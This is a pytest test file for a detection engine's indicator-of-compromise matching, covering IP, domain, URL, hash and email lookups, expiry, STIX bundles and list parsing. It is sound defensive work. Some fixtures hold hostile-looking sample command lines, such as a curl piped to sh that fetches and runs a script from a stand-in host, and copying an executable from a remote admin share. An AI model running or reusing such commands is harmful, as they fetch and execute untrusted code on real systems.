"""Indicators beside the rules: lists of all forms, exact answers, expiry, and the same hits as a naive scan."""

from __future__ import annotations

import contextlib
import gzip
import hashlib
import json
import math
import random
import tempfile
from pathlib import Path
from typing import Any

import pytest
import zstandard
from hypothesis import given
from hypothesis import strategies as st

from phithak.engines.sigma.errors import SourceError
from phithak.engines.sigma.indicators import Indicator, Table, Watch, read_indicators
from phithak.engines.sigma.indicators.model import NEVER
from phithak.engines.sigma.indicators.normal import UnfitError, key_of, kind_of, value_of
from phithak.engines.sigma.indicators.stix import comparisons
from phithak.engines.sigma.match import Engine
from phithak.engines.sigma.normalise import LogType
from phithak.web.cli import main
from tests.engines.sigma.ask import rule_text, rules_of
from tests.engines.sigma.test_engine import SYSMON

NOW = 1_790_000_000
MD5 = hashlib.md5(b"dropper", usedforsecurity=False).hexdigest()
SHA1 = hashlib.sha1(b"dropper", usedforsecurity=False).hexdigest()
SHA256 = hashlib.sha256(b"dropper").hexdigest()
NO_RULES = rules_of(rule_text("selection:\n    f: never-there"))


def table_of(*indicators: Indicator | tuple[str, str]) -> Table:
    table = Table()
    for item in indicators:
        indicator = item if isinstance(item, Indicator) else Indicator(*item)
        table.add(
            key_of(indicator.kind, indicator.value),
            begins=indicator.begins,
            expires=indicator.expires,
            tlp=indicator.tlp,
            pap=indicator.pap,
            level=indicator.level,
            said=(indicator.name, indicator.source, indicator.note),
        )
    table.freeze()
    return table


def seen(table: Table, record: Any, at: float = NOW) -> list[tuple[str, str, str]]:
    """Return (value of the indicator, field, what met it) by every way to ask; they must agree."""
    line = json.dumps(record).encode()
    answers = []
    for accelerated in (True, False):
        engine = Engine(NO_RULES, accelerated=accelerated, watch=Watch(table))
        cold, warm = engine.match(record, at=at), engine.match(record, at=at)
        lines = [hits for _, _, hits in engine.match_lines(line + b"\n" + line, at=at)]
        assert cold == warm
        assert lines == ([cold, cold] if cold else [])
        answers.append([(hit.rule.rule_id, item.field, item.pattern) for hit in cold for item in hit.matched])
    assert answers[0] == answers[1]
    return [(name.split(":", 2)[2], field, met) for name, field, met in answers[0]]


HITS = [
    # kind, indicator, text of an event, what met it
    ("ip", "192.0.2.7", "192.0.2.7", "192.0.2.7"),
    ("ip", "192.0.2.7", "::ffff:192.0.2.7", "192.0.2.7"),
    ("ip", "::ffff:192.0.2.7", "from 192.0.2.7:443 to x", "192.0.2.7"),
    ("ip", "198.51.100.0/24", "198.51.100.255", "198.51.100.255"),
    ("ip", "198.51.100.9/24", "ping 198.51.100.1, then stop", "198.51.100.1"),
    ("ip", "2001:db8::/32", "2001:DB8:0:1::5%eth0", "2001:db8:0:1::5"),
    ("ip", "2001:db8::1", "[2001:db8::1]:8443", "2001:db8::1"),
    ("ip", "192.0.2.7", "http://192.0.2.7:8080/a", "192.0.2.7"),
    ("ip", "192.0.2.7", r"copy \\192.0.2.7\c$\x.exe .", "192.0.2.7"),
    ("domain", "evil.example", "EVIL.example.", "evil.example"),
    ("domain", "evil.example", "a.b.evil.example", "a.b.evil.example"),
    ("domain", "*.evil.example", "nslookup b.evil.example:53", "b.evil.example"),
    ("domain", "evil[.]example", "curl https://User:pw@www.evil.example:8443/x?y", "www.evil.example"),
    ("domain", "evil.example", "somchai@mail.evil.example", "mail.evil.example"),
    ("domain", "evil.example", "_dmarc.evil.example", "_dmarc.evil.example"),
    ("domain", "evil.example", "curl evil.example/a.sh|sh", "evil.example"),
    ("domain", "evil.example", "เข้าเว็บevil.exampleแล้ว", "evil.example"),
    ("domain", "คาสิโน.example", "ดู คาสิโน.example วันนี้", "xn--42c6b8b5al8f.example"),
    ("domain", "xn--42c6b8b5al8f.example", "https://คาสิโน.example/", "xn--42c6b8b5al8f.example"),
    ("domain", "evil.example", r"net use \\evil.example@SSL\share", "evil.example"),
    ("url", "http://evil.example/a?b=1", "GET https://EVIL.example:443/A?b=1#top.", "evil.example/a?b=1"),
    ("url", "hxxps://evil[.]example", "(see http://evil.example/)", "evil.example/"),
    ("url", "evil.example/a/b", "url='http://evil.example/a/b',", "evil.example/a/b"),
    (
        "url",
        "http://evil.example/สล็อต",
        "http://evil.example/%E0%B8%AA%E0%B8%A5%E0%B9%87%E0%B8%AD%E0%B8%95",
        None,
    ),
    ("url", "ftp://evil.example/a", "ftp://evil.example:21/a", "ftp://evil.example/a"),
    ("md5", MD5, f"SHA1={SHA1},MD5={MD5.upper()}", MD5),
    ("sha1", SHA1, f"SHA1={SHA1.upper()},IMPHASH={MD5}", SHA1),
    ("sha256", SHA256, SHA256, SHA256),
    ("sha256", SHA256, f"sha256:{SHA256}/a", SHA256),
    ("email", "boss[at]evil[.]example", "From: <Boss@Evil.Example>", "boss@evil.example"),
]
MISSES = [
    ("ip", "192.0.2.7", "192.0.2.70"),
    ("ip", "192.0.2.7", "1192.0.2.7"),
    ("ip", "192.0.2.7", "192.0.2.7.1"),
    ("ip", "192.0.2.7", "192.0.2.07"),
    ("ip", "198.51.100.0/24", "198.51.101.0"),
    ("ip", "2001:db8::/32", "2001:db9::1"),
    ("domain", "evil.example", "notevil.example"),
    ("domain", "evil.example", "evil.example.org"),
    ("domain", "a.evil.example", "evil.example"),
    ("domain", "evil.example", r"C:\work\evil.example"),
    ("domain", "evil.example", "/var/www/evil.example/x"),
    ("domain", "evil.example", "evil-example"),
    ("url", "http://evil.example/a", "http://evil.example/ab"),
    ("url", "http://evil.example/a", "http://evil.example:8080/a"),
    ("url", "http://evil.example/a", "ftp://evil.example/a"),
    ("url", "http://evil.example/a", "https://www.evil.example/a"),
    ("md5", MD5, f"IMPHASH={MD5}"),
    ("md5", MD5, f"imphash:{MD5}/x"),
    ("md5", MD5, f"x{MD5}"),
    ("md5", MD5, MD5[:-1]),
    ("email", "boss@evil.example", "theboss@evil.example"),
    ("email", "boss@evil.example", "boss@sub.evil.example"),
]


@pytest.mark.parametrize(("kind", "value", "text", "met"), HITS)
def test_an_indicator_is_seen_in_text(kind: str, value: str, text: str, met: str | None) -> None:
    table = table_of((kind, value))
    shown = value_of(key_of(kind, value))[1]
    assert seen(table, {"field": text}) == [(shown, "field", met or shown)]
    assert seen(table, {"deep": {"er": ["x", text]}, "n": 5}) == [(shown, "deep.er", met or shown)]
    assert seen(table, {"Channel": SYSMON, "EventID": 1, "CommandLine": text}) == [
        (shown, "CommandLine", met or shown)
    ]


@pytest.mark.parametrize(("kind", "value", "text"), MISSES)
def test_what_only_resembles_an_indicator_is_not_seen(kind: str, value: str, text: str) -> None:
    assert seen(table_of((kind, value)), {"field": text}) == []
    assert seen(table_of((kind, value)), {"Channel": SYSMON, "EventID": 1, "CommandLine": text}) == []


def test_only_fields_that_hold_observations_are_searched() -> None:
    table = table_of(("domain", "evil.example"), ("ip", "192.0.2.7"))
    assert seen(table, {"uid": "evil.example", "ts": "192.0.2.7", "query": "evil.example"}) == [
        ("evil.example", "query", "evil.example")
    ]
    event = {"Channel": SYSMON, "EventID": 3, "DestinationIp": "192.0.2.7", "Image": "evil.example"}
    assert seen(table, event) == [("192.0.2.7", "DestinationIp", "192.0.2.7")]
    assert seen(table, {"Channel": SYSMON, "EventID": 10, "SourceImage": "evil.example"}) == []
    assert seen(table, {"Channel": "Somebody's Own", "EventID": 10, "Anything": "evil.example"}) == [
        ("evil.example", "Anything", "evil.example")
    ]


def test_a_url_in_two_fields_is_seen() -> None:
    table = table_of(("url", "http://evil.example/a.php?x=1"))
    zeek = {"_path": "http", "ts": 1.0, "uid": "C1", "host": "EVIL.example", "uri": "/a.php?x=1"}
    assert [met for _, _, met in seen(table, zeek)] == ["evil.example/a.php?x=1"]
    suricata = {
        "event_type": "http",
        "flow_id": 1,
        "http": {"hostname": "evil.example", "url": "/a.php?x=1"},
    }
    assert [met for _, _, met in seen(table, suricata)] == ["evil.example/a.php?x=1"]
    assert seen(table, {**zeek, "uri": "/b.php"}) == []


def test_expired_indicators_and_those_not_yet_begun_never_hit() -> None:
    table = table_of(
        Indicator("domain", "old.example", expires=NOW),
        Indicator("domain", "now.example", begins=NOW, expires=NOW + 1),
        Indicator("domain", "next.example", begins=NOW + 1),
        Indicator("domain", "ever.example"),
    )
    record = {"f": "old.example now.example next.example ever.example"}
    assert [value for value, _, _ in seen(table, record, NOW)] == ["now.example", "ever.example"]
    assert [value for value, _, _ in seen(table, record, NOW + 0.5)] == ["now.example", "ever.example"]
    assert [value for value, _, _ in seen(table, record, NOW + 1)] == ["next.example", "ever.example"]
    assert [value for value, _, _ in seen(table, record, NOW - 1)] == ["old.example", "ever.example"]
    # without a moment only what never expires can hit
    assert [value for value, _, _ in seen(table, record, math.inf)] == ["next.example", "ever.example"]


def test_the_same_engine_answers_for_each_moment() -> None:
    engine = Engine(NO_RULES, watch=Watch(table_of(Indicator("ip", "192.0.2.7", expires=NOW))))
    for moment, count in ((NOW - 1, 1), (NOW, 0), (NOW - 1, 1)):
        assert len(engine.match({"src": "192.0.2.7"}, at=moment)) == count


def test_a_hit_says_which_indicator_how_it_may_be_used_and_where_it_stood() -> None:
    table = table_of(
        Indicator(
            "domain",
            "evil.example",
            expires=NOW + 5,
            tlp="amber+strict",
            pap="red",
            level="high",
            name="indicator--1",
            source="sector feed",
            note="Loader, seen in June",
        ),
        Indicator("domain", "evil.example", tlp="clear", source="other feed"),
    )
    engine = Engine(rules_of(rule_text("selection:\n    f|contains: evil")), watch=Watch(table))
    hits = engine.match({"f": "a.evil.example", "g": "evil.example"}, LOG_TEST, at=NOW)
    assert [hit.rule.rule_id for hit in hits] == [
        "11111111-1111-4111-8111-111111111111",
        "indicator:domain:evil.example",
        "indicator:domain:evil.example",
    ]
    first = hits[1]
    assert (first.rule.title, first.rule.level, first.rule.tags, first.rule.author) == (
        "Loader, seen in June",
        "high",
        ("tlp.amber+strict", "pap.red"),
        "sector feed",
    )
    assert [(item.field, item.value, item.modifier, item.pattern) for item in first.matched] == [
        ("f", "a.evil.example", "indicator", "a.evil.example"),
        ("g", "evil.example", "indicator", "evil.example"),
    ]
    assert first.indicator is not None
    assert (first.indicator.name, first.indicator.expires) == ("indicator--1", NOW + 5)
    assert (hits[2].rule.level, hits[2].rule.tags) == ("medium", ("tlp.clear",))


LOG_TEST = LogType("test", frozenset({"test"}), frozenset({"test"}), frozenset({"test"}))


def test_a_value_that_is_listed_a_thousand_times_costs_no_time_and_is_counted() -> None:
    table = table_of(
        *(Indicator("ip", "192.0.2.7", source=f"feed {number}") for number in range(1000)),
        *(Indicator("ip", "192.0.2.8") for _ in range(1000)),
    )
    assert len(seen(table, {"f": "192.0.2.7"})) == 16 + 1
    assert len(seen(table, {"f": "192.0.2.8"})) == 1
    assert table.repeated == 2000 - 17 - 1
    assert len(table) == 18


def test_a_look_up_is_confirmed_and_costs_little_memory() -> None:
    source = random.Random(5)  # noqa: S311 a seed, no secret
    values = [f"{source.getrandbits(64):x}.example" for _ in range(40_000)]
    there, absent = values[:20_000], values[20_000:]
    table = table_of(*(("domain", value) for value in there))
    assert all(table.find(b"d" + value.encode()) for value in there)
    assert not any(table.find(b"d" + value.encode()) for value in absent)
    # the same bytes as another kind are another thing
    assert not any(table.find(b"u" + value.encode()) for value in there[:100])
    assert table.memory() / len(table) < 75


@pytest.mark.parametrize(
    ("kind", "value", "reason"),
    [
        ("domain", "com", "broad"),
        ("domain", ".th", "broad"),
        ("domain", "go.th", "broad"),
        ("domain", "*.co.th", "broad"),
        ("ip", "0.0.0.0/0", "broad"),
        ("ip", "10.0.0.0/7", "broad"),
        ("ip", "::/0", "broad"),
        ("ip", "::ffff:0.0.0.0/96", "broad"),
        ("md5", "d41d8cd98f00b204e9800998ecf8427e", "empty"),
        ("sha256", hashlib.sha256(b"").hexdigest(), "empty"),
        ("ip", "192.0.2.256", "value"),
        ("ip", "192.0.2.7/33", "value"),
        ("ip", "192.0.2.7/", "value"),
        ("domain", "evil..example", "value"),
        ("domain", "evil.example/x", "value"),
        ("domain", "", "value"),
        ("md5", SHA1, "value"),
        ("sha1", "z" * 40, "value"),
        ("url", "http://", "value"),
        ("url", "http://evil example/", "value"),
        ("url", "javascript:alert(1)", "value"),
        ("email", "evil.example", "value"),
        ("email", "a@b", "value"),
    ],
)
def test_values_that_would_meet_everything_or_nothing_are_refused(kind: str, value: str, reason: str) -> None:
    with pytest.raises(UnfitError, match=f"^{reason}$"):
        key_of(kind, value)


def test_the_kind_is_told_by_the_shape() -> None:
    for value, kind in (
        ("192.0.2.7", "ip"),
        ("192.0.2.0/24", "ip"),
        ("2001:db8::", "ip"),
        ("evil[.]example", "domain"),
        ("hxxp://evil.example", "url"),
        ("evil.example/x", "url"),
        (MD5, "md5"),
        (SHA1, "sha1"),
        (SHA256, "sha256"),
        ("a@evil.example", "email"),
        ("word", ""),
    ):
        assert kind_of(value) == kind, value


CSV = f"""# a list
Type;Indicator;valid_until;TLP;PAP;Severity;ID;Source;Comment
ipv4;192.0.2.7;2026-12-31;TLP:AMBER;PAP:RED;high;7;feed;"two; words"
domain-name;evil[.]example;2569-12-31T00:00:00Z;white;;;8;;
;{MD5};1900000000;;;;9;;
url;hxxp://evil.example/x;;;;;;;
asn;64496;;;;;10;;
domain;other.example;soon;;;;11;;
domain;third.example;;TLP:PINK;;;12;;
domain;com;;;;;13;;
"""
LINES = [
    {"type": "hostname", "value": "evil.example", "expires": 1_900_000_000, "tlp": "green", "id": 5},
    {"ioc": "192.0.2.0/24", "note": "scanner"},
    {"type": "sha256", "value": MD5},
    {"type": "domain"},
]
PLAIN = f"""\ufeff# comment
evil.example # why
0.0.0.0 one.example two.example
192.0.2.7 seen today

{SHA256}
; other comment
what is this
"""


def test_lists_of_all_forms_are_read(tmp_path: Path) -> None:
    (tmp_path / "a.csv").write_text(CSV)
    table, report = read_indicators([str(tmp_path / "a.csv")])
    assert (report.taken, report.kinds) == (4, {"ip": 1, "domain": 1, "md5": 1, "url": 1})
    assert dict(report.refused) == {"kind": 1, "time": 1, "marking": 1, "broad": 1}
    assert [(item.line, item.reason, item.text) for item in report.shown] == [
        (7, "kind", "64496"),
        (8, "time", "other.example"),
        (9, "marking", "third.example"),
        (10, "broad", "com"),
    ]
    (found,) = table.at(table.find(key_of("ip", "192.0.2.7")))
    assert found == Indicator(
        "ip",
        "192.0.2.7",
        expires=1_798_761_600,
        tlp="amber",
        pap="red",
        level="high",
        name="7",
        source="feed",
        note="two; words",
    )
    (found,) = table.at(table.find(key_of("domain", "evil.example")))
    assert (found.expires, found.tlp) == (1_798_675_200, "clear")
    (found,) = table.at(table.find(key_of("md5", MD5)))
    assert (found.expires, found.name) == (1_900_000_000, "9")

    (tmp_path / "b.jsonl.gz").write_bytes(
        gzip.compress("\n".join(map(json.dumps, LINES)).encode() + b"\n{x\n")
    )
    (tmp_path / "c.json").write_text(json.dumps(LINES, indent=1))
    for name, wrong in (("b.jsonl.gz", 1), ("c.json", 0)):
        table, report = read_indicators([str(tmp_path / name)])
        assert (report.taken, dict(report.refused)) == (
            2,
            {"value": 2, "line": 1} if wrong else {"value": 2},
        ), name
        (found,) = table.at(table.find(key_of("domain", "evil.example")))
        assert (found.tlp, found.expires, found.name) == ("green", 1_900_000_000, "5")

    (tmp_path / "d.txt.zst").write_bytes(zstandard.ZstdCompressor().compress(PLAIN.encode()))
    table, report = read_indicators([str(tmp_path / "d.txt.zst")])
    assert (report.taken, dict(report.refused)) == (5, {"line": 1})
    assert table.find(key_of("domain", "two.example"))
    assert not table.find(key_of("ip", "192.0.2.8"))


BUNDLE = {
    "type": "bundle",
    "id": "bundle--1",
    "objects": [
        {"type": "marking-definition", "id": "marking-definition--a", "name": "PAP:AMBER"},
        {
            "type": "indicator",
            "id": "indicator--1",
            "name": "Phishing kit",
            "pattern_type": "stix",
            "pattern": "[domain-name:value = 'evil.example' OR url:value = 'http://evil.example/a'] OR "
            "[ipv4-addr:value ISSUBSET '198.51.100.0/24']",
            "valid_from": "2026-01-01T00:00:00Z",
            "valid_until": "2027-01-01T00:00:00Z",
            "object_marking_refs": [
                "marking-definition--939a9414-2ddd-4d32-a0cd-375ea402b003",
                "marking-definition--34098fce-860f-48ae-8e50-ebd3cc5e41da",
                "marking-definition--a",
            ],
        },
        {
            "type": "indicator",
            "id": "indicator--2",
            "pattern": f"[file:hashes.'SHA-256' = '{SHA256}' OR file:hashes.MD5 IN ('{MD5}')]",
            "labels": ["tlp:red"],
        },
        {
            "type": "indicator",
            "id": "indicator--3",
            "pattern": "[a:b = 'c' AND domain-name:value = 'x.example']",
        },
        {
            "type": "indicator",
            "id": "indicator--4",
            "pattern": "[domain-name:value = 'a.example'] FOLLOWEDBY [domain-name:value = 'b.example']",
        },
        {
            "type": "indicator",
            "id": "indicator--5",
            "pattern": "[domain-name:value = 'c.example'",
            "name": "open",
        },
        {
            "type": "indicator",
            "id": "indicator--6",
            "pattern": "[domain-name:value = 'd.example']",
            "revoked": True,
        },
        {"type": "indicator", "id": "indicator--7", "pattern": "rule x {}", "pattern_type": "yara"},
        {"type": "indicator", "id": "indicator--8", "pattern": "[domain-name:value != 'e.example']"},
    ],
}


@pytest.mark.parametrize("indent", [None, 2])
def test_stix_bundles_give_their_simple_patterns_and_refuse_the_others(
    tmp_path: Path, indent: int | None
) -> None:
    (tmp_path / "bundle.json").write_text(json.dumps(BUNDLE, indent=indent))
    table, report = read_indicators([str(tmp_path / "bundle.json")])
    assert report.taken == 5
    assert dict(report.refused) == {"pattern": 5, "revoked": 1}
    for kind, value in (
        ("domain", "evil.example"),
        ("url", "http://evil.example/a"),
        ("ip", "198.51.100.0/24"),
    ):
        (found,) = table.at(table.find(key_of(kind, value)))
        assert (found.tlp, found.pap, found.name, found.note) == (
            "amber+strict",
            "amber",
            "indicator--1",
            "Phishing kit",
        )
        assert (found.begins, found.expires) == (1_767_225_600, 1_798_761_600)
    (found,) = table.at(table.find(key_of("sha256", SHA256)))
    assert (found.tlp, found.expires) == ("red", NEVER)


_SCRAPS = st.sampled_from(
    [
        b"value,type\n",
        b"value;expires\n",
        b'"',
        b"\n",
        b",",
        b"\x00",
        b"\xff\xfe",
        b"\xef\xbb\xbf",
        b"{",
        b"}",
        b"[",
        b"]",
        b'{"value": "evil.example"}\n',
        b'{"objects": [',
        b'{"type": "indicator", "pattern": "[a:b = \'c\']"}',
        b"]}",
        b"evil.example",
        b"192.0.2.0/24",
        b"#",
        b"1e400",
        b"-1",
        b"\xe0\xb8\x81",
        b"NaN",
        b"0.0.0.0 ",
        b"http://[",
        b"a@",
    ]
)


@given(st.lists(st.one_of(_SCRAPS, st.binary(max_size=8)), max_size=14).map(b"".join))
def test_no_list_however_odd_breaks_the_reader(content: bytes) -> None:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "list"
        path.write_bytes(content)
        with contextlib.suppress(SourceError):
            table, report = read_indicators([str(path)])
            assert report.taken == len(table)
            assert len(report.shown) == min(50, report.refused.total())


def test_literals_of_patterns_may_hold_escaped_signs() -> None:
    assert comparisons(r"[url:value = 'a\'b' OR url:value IN ('c\\d', 'e ] OR [')]") == [
        ("url", "a'b"),
        ("url", r"c\d"),
        ("url", "e ] OR ["),
    ]


def test_the_command_line_reads_lists_and_writes_what_was_seen(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "rules.yml").write_text(rule_text("selection:\n    f: never-there"))
    (tmp_path / "list.csv").write_text(
        "value,expires,tlp\nevil.example,2026-12-01T00:00:00Z,amber\n192.0.2.7,,\ngo.th,,\n"
    )
    (tmp_path / "events.jsonl").write_text(
        '{"query":"a.evil.example"}\n{"query":"fine.example"}\n{"query":"evil.example","src":"192.0.2.7"}\n'
    )
    out, stats = tmp_path / "hits", tmp_path / "stats"
    words = [
        "sigma",
        "run",
        "--rules",
        str(tmp_path / "rules.yml"),
        "--events",
        str(tmp_path / "events.jsonl"),
    ]
    words += ["--iocs", str(tmp_path / "list.csv"), "--no-cache", "--out", str(out), "--stats", str(stats)]
    results = []
    for more in (["--at", "2026-11-30T00:00:00Z"], ["--at", "2026-11-30T00:00:00Z", "--jobs", "2"]):
        assert main(["--language", "en", *words, *more]) == 0
        results.append(out.read_bytes())
    assert results[0] == results[1]
    hits = [json.loads(line) for line in results[0].splitlines()]
    assert [(hit["event"], hit["rule_id"]) for hit in hits] == [
        (0, "indicator:domain:evil.example"),
        (2, "indicator:domain:evil.example"),
        (2, "indicator:ip:192.0.2.7"),
    ]
    assert hits[0]["matched"] == [
        {"field": "query", "value": "a.evil.example", "modifier": "indicator", "pattern": "a.evil.example"}
    ]
    assert hits[0]["indicator"]["tlp"] == "amber"
    counted = json.loads(stats.read_text())["indicators"]
    assert (counted["taken"], counted["refused"], counted["shown"][0]["text"]) == (2, {"broad": 1}, "go.th")
    assert "2 indicators, 1 left out" in capsys.readouterr().err
    assert main(["--language", "en", *words, "--at", "2026-12-01T00:00:00Z"]) == 0
    assert [json.loads(line)["rule_id"] for line in out.read_text().splitlines()] == [
        "indicator:ip:192.0.2.7"
    ]
    assert main(["--language", "en", *words, "--at", "tomorrow"]) == 2
    assert main(["--language", "en", *words[:-1], str(stats), "--iocs", str(tmp_path / "absent")]) == 2
